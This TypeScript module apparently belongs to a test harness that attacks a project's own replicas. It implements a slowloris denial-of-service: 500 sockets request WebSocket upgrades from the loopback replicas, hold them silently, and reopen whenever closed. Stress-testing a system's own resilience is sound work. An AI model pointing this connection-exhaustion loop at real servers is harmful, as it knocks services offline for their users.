/**
 * slowloris: no key needed. Raw TCP sockets to every replica's port ask for the WebSocket
 * upgrade, get it, and never send the client's handshake proof; each one closed by the replica
 * is opened again. SLOWLORIS_SOCKETS in total, spread over the replicas.
 *
 * The stranger dials from STRANGER_ADDRESS, not from the honest agents' 127.0.0.1: it stands for
 * a host of its own, as a keyless stranger is (Linux routes all of 127/8 to loopback). A stranger
 * sharing the honest agents' address shares their pending-handshake slots (transport README).
 */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { readListeningAddress } from '@conclave/node';
import { type Attack, type AttackContext, sleep } from './context.ts';

export const SLOWLORIS_SOCKETS = 500;
export const STRANGER_ADDRESS = '127.0.0.2';
/** Pause before re-opening a socket the replica closed, so a refusing replica is not spun on. */
const REOPEN_DELAY_MS = 50;
const REPORT_EVERY_MS = 250;

function upgradeRequest(): string {
  return [
    'GET / HTTP/1.1',
    'Host: 127.0.0.1',
    'Upgrade: websocket',
    'Connection: Upgrade',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    'Sec-WebSocket-Version: 13',
    '',
    '',
  ].join('\r\n');
}

interface Holder {
  /** Sockets whose upgrade was answered 101 and that are still open. */
  held: number;
}

/** Keeps one slot busy: a socket upgraded and silent, re-opened whenever it closes. */
async function holdSlot(context: AttackContext, port: number, holder: Holder): Promise<void> {
  while (!context.signal.aborted) {
    await new Promise<void>((closed) => {
      const socket: Socket = connect({ host: '127.0.0.1', port, localAddress: STRANGER_ADDRESS });
      let upgraded = false;
      const abort = () => socket.destroy();
      context.signal.addEventListener('abort', abort, { once: true });
      socket.on('connect', () => {
        context.count('opened');
        socket.write(upgradeRequest());
      });
      socket.on('data', (chunk) => {
        if (!upgraded && chunk.toString('latin1').startsWith('HTTP/1.1 101')) {
          upgraded = true;
          holder.held++;
          context.count('upgraded');
        }
        // Whatever the replica sends next (its hello) is left unanswered.
      });
      socket.on('error', () => context.count('errors'));
      socket.on('close', () => {
        if (upgraded) holder.held--;
        // Closed before the upgrade was answered: refused (ADDRESS_BUSY, or the replica was full).
        else context.count('refused_before_upgrade');
        context.signal.removeEventListener('abort', abort);
        closed();
      });
    });
    await sleep(REOPEN_DELAY_MS, context.signal);
  }
}

export const slowloris: Attack = async (context) => {
  const ports = Array.from({ length: context.replicas }, (_, id) => {
    const address = readListeningAddress(context.dir, id);
    if (address === undefined) throw new Error(`replica ${id} has not reported its port`);
    return address.port;
  });
  const holder: Holder = { held: 0 };
  let heldMax = 0;
  const reporter = setInterval(() => {
    heldMax = Math.max(heldMax, holder.held);
    context.set('held', holder.held);
    context.set('held_max', heldMax);
  }, REPORT_EVERY_MS);
  try {
    await Promise.all(
      Array.from({ length: SLOWLORIS_SOCKETS }, (_, i) =>
        holdSlot(context, ports[i % ports.length] as number, holder),
      ),
    );
  } finally {
    clearInterval(reporter);
  }
};
